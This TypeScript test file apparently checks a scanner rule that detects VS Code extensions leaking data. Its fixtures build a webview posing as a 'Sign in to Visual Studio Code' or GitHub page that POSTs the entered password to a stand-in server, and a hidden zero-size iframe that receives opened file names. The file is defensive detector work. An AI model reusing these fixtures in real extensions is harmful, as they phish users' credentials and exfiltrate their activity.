import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './data-leak.rule.js';

const found = (files: Record<string, string>, original: Record<string, unknown> = {}): string[] => findingsOf(rule, files, { dialect: 'vscode', entry_points: ['main.js'], original }).map(({ severity, message }) => `${severity} ${message}`);
const PAGE = 'exports.page = (t) => `<!doctype html><html><body><form id="f"><h2>${t.title}</h2><p>${t.text}</p><input name="s" type="password" placeholder="${t.secret}"><button>${t.go}</button></form></body></html>`;';
const main = (send: string): string => `const vscode = require('vscode'); const texts = require('./l10n/en.json'); const { page } = require('./page.js'); exports.activate = (context) => { const panel = vscode.window.createWebviewPanel('a', texts.tab, 1, { enableScripts: true }); panel.webview.html = page(texts); panel.webview.onDidReceiveMessage((fields) => ${send}); };`;
const TO_SERVER = "fetch('https://in.tables.example/session', { method: 'POST', body: JSON.stringify(fields) })";
const words = (title: string): string => JSON.stringify({ tab: 'Account', title, text: 'Please go on.', secret: 'Password', go: 'Go on' });

test('bad: the words of a page that poses stand in a file of data, and its server in the manifest', () => {
  const isPosing = (files: Record<string, string>, original?: Record<string, unknown>): boolean => found(files, original).some((each) => each.startsWith('high a page asks for the password'));
  assert.ok(isPosing({ 'main.js': main(TO_SERVER), 'page.js': PAGE, 'l10n/en.json': words('Sign in to Visual Studio Code') }));
  assert.ok(isPosing({ 'main.js': main(TO_SERVER), 'page.js': PAGE, 'l10n/en.json': JSON.stringify({ notice: JSON.parse(words('Sign in to GitHub')) }) }), 'in an object');
  const byManifest = main("fetch(new URL('session', context.extension.packageJSON.homepage), { method: 'POST', body: JSON.stringify(fields) })");
  assert.ok(isPosing({ 'main.js': byManifest, 'page.js': PAGE, 'l10n/en.json': words('Sign in to Visual Studio Code') }, { homepage: 'https://tables.example/app' }), 'by the manifest');
});

test('good: a page is for the server of its own, and texts of others stand beside it', () => {
  const isPosing = (files: Record<string, string>, original?: Record<string, unknown>): boolean => found(files, original).some((each) => each.includes('a page asks for the password'));
  assert.ok(!isPosing({ 'main.js': main(TO_SERVER), 'page.js': PAGE, 'l10n/en.json': words('Sign in to Tables') }));
  assert.ok(!isPosing({ 'main.js': main(TO_SERVER), 'page.js': PAGE, 'l10n/en.json': JSON.stringify({ ...JSON.parse(words('Sign in to Tables')), elsewhere: 'Sign in to GitHub' }) }), 'a text that the page has no name for');
  assert.ok(!isPosing({ 'main.js': main("vscode.window.showInformationMessage(fields.s.length)"), 'page.js': PAGE, 'l10n/en.json': words('Sign in to Visual Studio Code') }), 'nothing is sent');
  assert.ok(!isPosing({ 'main.js': main('vscode.window.showInformationMessage(context.extension.packageJSON.version)'), 'page.js': PAGE, 'l10n/en.json': words('Sign in to Visual Studio Code') }, { homepage: 'https://tables.example/app' }), 'the manifest is asked for its version');
});

const VIEW = (frame: string): string => `const vscode = require('vscode'); exports.activate = (context) => vscode.window.registerWebviewViewProvider('chat', { resolveWebviewView({ webview }) { const script = webview.asWebviewUri(vscode.Uri.joinPath(context.extensionUri, 'media', 'chat.js')); webview.html = \`<!doctype html><html><body>${frame}<script src="\${script}"></script></body></html>\`; vscode.workspace.onDidOpenTextDocument((document) => webview.postMessage({ name: document.fileName })); } });`;
const HIDDEN = '<iframe id="frame" src="https://desk.tables.example/frame.html" style="width:0;height:0;border:0;opacity:0"></iframe>';
const POSTS = "const frame = document.getElementById('frame'); window.addEventListener('message', ({ data }) => frame.contentWindow.postMessage(data, 'https://desk.tables.example'));";

test('a frame that nobody sees gets messages from the script of its page', () => {
  const isTold = (frame: string, script: string, name = 'media/chat.js'): boolean => found({ 'main.js': VIEW(frame), [name]: script }).includes('high a frame of a server, which nobody sees, gets messages');
  assert.ok(isTold(HIDDEN, POSTS));
  assert.ok(isTold(HIDDEN, POSTS.replace('frame.contentWindow', 'window.frames[0]')), 'by the list of frames');
  assert.ok(!isTold('<iframe id="frame" src="https://desk.tables.example/frame.html" width="300" height="200"></iframe>', POSTS), 'it is seen');
  assert.ok(!isTold(HIDDEN, POSTS.replace('(data,', "('ready',")), 'it is told that there is a page');
  assert.ok(!isTold(HIDDEN, POSTS.replace('(data,', "({ type: 'ready' },")), 'the same in an object');
  assert.ok(!isTold(HIDDEN, 'const host = acquireVsCodeApi(); host.postMessage({ ready: true });'), 'the host is told');
  assert.ok(!isTold(HIDDEN, POSTS, 'media/other.js'), 'the script of another page');
});
